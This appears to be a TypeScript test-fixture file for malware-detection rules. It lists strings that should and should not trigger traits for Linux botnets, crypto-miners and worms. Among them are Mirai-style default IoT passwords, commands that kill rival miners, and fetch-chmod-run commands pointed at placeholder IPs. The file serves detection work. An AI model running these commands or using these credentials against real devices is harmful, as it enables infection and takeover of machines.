// Programs that a machine is lent out by: bots, miners, and how they come and spread.
import { type Traits, texts } from './trait.ts'

export const BOTS: Traits = {
  elf_botnet: {
    hits: {
      'floods, passwords, busybox': texts(
        'udpflood',
        'synflood',
        'vizxv',
        'xc3511',
        'juantech',
        '/bin/busybox',
        '/dev/watchdog',
      ),
    },
    misses: { 'a router with a watchdog': texts('/bin/busybox', '/dev/watchdog', 'tftp -g') },
  },
  elf_floods: { hits: { 'two floods': texts('udpflood', 'httpflood') }, misses: { 'one word': texts('syn flood') } },
  elf_mines_cryptocurrency: {
    hits: { 'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level') },
    misses: { 'names an algorithm': texts('cryptonight', 'hugepages') },
  },
  elf_kills_rivals: {
    hits: { 'two of them': texts('pkill -f xmr', 'kdevtmpfsi') },
    misses: { 'an ordinary kill': texts('killall -HUP sshd') },
  },
  elf_downloads_and_runs: {
    hits: { 'wget and chmod': texts('wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a') },
    misses: { 'wget alone': texts('wget http://example.com/') },
  },
  elf_spreads_by_passwords: {
    hits: {
      'tries them and fetches': {
        ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty', 'wget http://203.0.113.9/x; chmod +x x'),
        imports: ['ssh_userauth_password'],
      },
    },
    misses: {
      'tries them': { ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty'), imports: ['ssh_userauth_password'] },
    },
  },
}
